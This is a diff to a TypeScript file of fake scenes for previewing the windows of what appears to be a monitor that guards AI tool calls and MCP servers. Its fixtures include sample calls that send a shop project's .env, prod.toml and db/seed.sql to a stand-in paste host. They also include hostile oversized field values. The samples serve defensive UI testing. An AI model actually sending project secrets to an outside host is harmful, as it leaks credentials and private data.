@@ -1,7 +1,7 @@
 // What the windows show in a plain browser: one scene for each view and state, named in the address (?scene=hostile).
-import type { FindingView, FoundEntryView, RowView, RuleView, SessionView, WhatView } from "../bindings";
+import type { AskedView, FindingView, FoundEntryView, RowView, RuleView, SessionView, WhatView } from "../bindings";
 import type { MainBackend, PromptBackend } from "./backend";
-import { FakeMain, FakePrompt, question, serverView } from "./fake";
+import { FakeMain, FakePrompt, appeared, changed, command, question, serverView } from "./fake";
 
 const DAY = 86_400_000;
 const now = Date.now();
@@ -119,6 +119,7 @@ function full(): FakeMain {
   main.overview = async () => ({
     engine: { state: "up", version: "0.1.0", pid: 1, own: true, mode: "balanced", paused_until: null, quieted: [], sessions, problems: [] },
     questions: [],
+    withheld: [{ entry: "cursor/user/notion", app: "Cursor", server: "notion", kind: "tool", name: "search_pages" }],
     offers: [],
     last_block: main.rows.find((r) => r.what.kind === "judged" && r.what.verdict === "block") ?? null,
   });
@@ -193,8 +194,35 @@ const SCENES: Record<string, () => FakeMain> = { full, hostile, failing, empty, 
 const wanted = new URLSearchParams(location.search).get("scene") ?? "full";
 
 export const mainBackend: MainBackend = (SCENES[wanted] ?? full)();
-export const promptBackend: PromptBackend = new FakePrompt(
-  question(),
-  question({ nonce: "n2", host: null }),
-  question({ nonce: "n3", calls: [".env", "prod.toml", "db/seed.sql"].map((file, at) => ({ asked: now + at * 1000, brief: `{"url":"https://paste.example.net/u","body":"~/src/shop/${file} …"}`, bytes: 400 * (at + 1) })) }),
-);
+const several = ({ nonce }: { nonce: string }): AskedView =>
+  question({ nonce, calls: [".env", "prod.toml", "db/seed.sql"].map((file, at) => ({ asked: now + at * 1000, brief: `{"url":"https://paste.example.net/u","body":"~/src/shop/${file} …"}`, bytes: 400 * (at + 1) })) });
+
+/** Every field that a server, a client or a command could fill, filled with the worst. */
+function hostileQuestions(): AskedView[] {
+  const long = EVIL + "A".repeat(1 << 20);
+  const field = { name: EVIL, before: long, after: `${long}B` };
+  const found = { ...finding(EVIL, long, [EVIL, long], [long, EVIL]), evidence: finding("x", "", [EVIL, long], [long, EVIL]).evidence.map((e) => ({ ...e, excerpt: long, pointer: long, transform: long })) };
+  return [
+    question({ nonce: "h1", app: EVIL, server: long, tool: long, host: long, process: EVIL, findings: [found], arguments: [{ name: long, text: long }, { name: EVIL, text: EVIL }] }),
+    command({ nonce: "h2", action: long, command: long, asked_by: [EVIL, long] }),
+    changed({ nonce: "h3", app: EVIL, server: long, findings: [found], definitions: [{ pin: { kind: EVIL, name: long, first_seen: now, change: { seen: "d", back: false, fields: [field] } }, new: false, since: now }] }),
+    appeared({ nonce: "h4", app: EVIL, path: long, servers: [{ server: long, command: long }], left: [long] }),
+  ];
+}
+
+/** By name, as the address names them (?ask=changed); without a name, one after the other. */
+const ASKED: Record<string, () => AskedView[]> = {
+  call: () => [question()],
+  several: () => [several({ nonce: "n1" })],
+  host: () => [question({ tool: "telemetry.example.org:443", program: "/usr/bin/node (4801)", host: null, findings: [{ ...finding("sandbox/host", "The server wants to connect to a host that nobody granted.", ["github", ""], null, "medium"), evidence: [] }] })],
+  late: () => [question({ asked: now - 60_000, held_until: now - 15_000 })],
+  command: () => [command()],
+  changed: () => [changed()],
+  "changed-several": () => [changed({ findings: [{ ...finding("definition/changed", "The definition is not the one that was pinned when it was first seen or last accepted.", ["notion", ""], null, "medium"), evidence: [] }], definitions: serverView().pins.flatMap((pin) => pin.change === null ? [] : [0, 1].map((n) => ({ pin: { ...pin, name: `${pin.name}_${n}` }, new: false, since: now - 3_600_000 }))) })],
+  server: () => [appeared()],
+  servers: () => [appeared({ servers: ["linear", "sentry", "figma"].map((server) => ({ server, command: `npx -y ${server}-mcp` })), left: ["figma: its command is an array with args beside it"] })],
+  dropped: () => [appeared({ news: "dropped" })],
+  hostile: hostileQuestions,
+};
+const asked = new URLSearchParams(location.search).get("ask") ?? "";
+export const promptBackend: PromptBackend = new FakePrompt(...(ASKED[asked]?.() ?? [question(), question({ nonce: "n2", host: null }), several({ nonce: "n3" })]));
